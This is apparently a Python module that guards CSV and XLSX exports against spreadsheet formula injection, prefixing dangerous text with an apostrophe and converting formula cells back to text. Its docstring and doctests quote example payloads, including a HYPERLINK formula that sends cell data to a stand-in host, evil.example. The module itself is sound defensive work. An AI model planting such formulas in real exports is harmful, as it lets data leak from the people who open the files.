r"""Spreadsheet formula injection: user text in a CSV or XLSX export is written as text.

OWASP's rule: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return may be run as a formula by Excel or LibreOffice (``=HYPERLINK("http://evil.example/?x="&A1)``).
Such text gets a leading apostrophe in CSV (spreadsheet programs show it as text); in XLSX it is
stored as a text cell (see :func:`text_cells_only`). Numbers stay numbers, and so does text that
is only a number (``-12``, ``-1,5``, ``+32 %``): it cannot call anything.

Examples
--------
>>> neutralise('=HYPERLINK("http://evil.example","klik")')
'\'=HYPERLINK("http://evil.example","klik")'
>>> neutralise("-1,5"), neutralise(-3), neutralise("Kortrijk")
('-1,5', -3, 'Kortrijk')
"""

from __future__ import annotations

import re
from typing import TypeGuard

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,\u00a0\u202f ]*(?:\s?%)?")


def is_dangerous(value: object) -> TypeGuard[str]:
    """Whether a spreadsheet could take this cell for a formula."""
    return (isinstance(value, str) and value.startswith(FORMULA_START)
            and _PLAIN_NUMBER.fullmatch(value) is None)


def neutralise(value: object) -> object:
    """``value`` as it is safe to write into a CSV cell (text starting a formula gets an apostrophe)."""
    return "'" + value if is_dangerous(value) else value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name neutralised; numeric columns untouched.

    Examples
    --------
    >>> neutralise_frame(pd.DataFrame({"zone": ["@SUM(A1)", "W13"], "n": [-1, 2]})).values.tolist()
    [["'@SUM(A1)", -1], ['W13', 2]]
    """
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise)
    return out.rename(columns=neutralise)


def text_cells_only(workbook) -> int:
    """Turn every formula cell of an openpyxl workbook back into the text it was (openpyxl reads
    any string starting with ``=`` as a formula); returns how many cells it changed.

    Exports never write formulas, so every formula cell came from data.
    """
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed
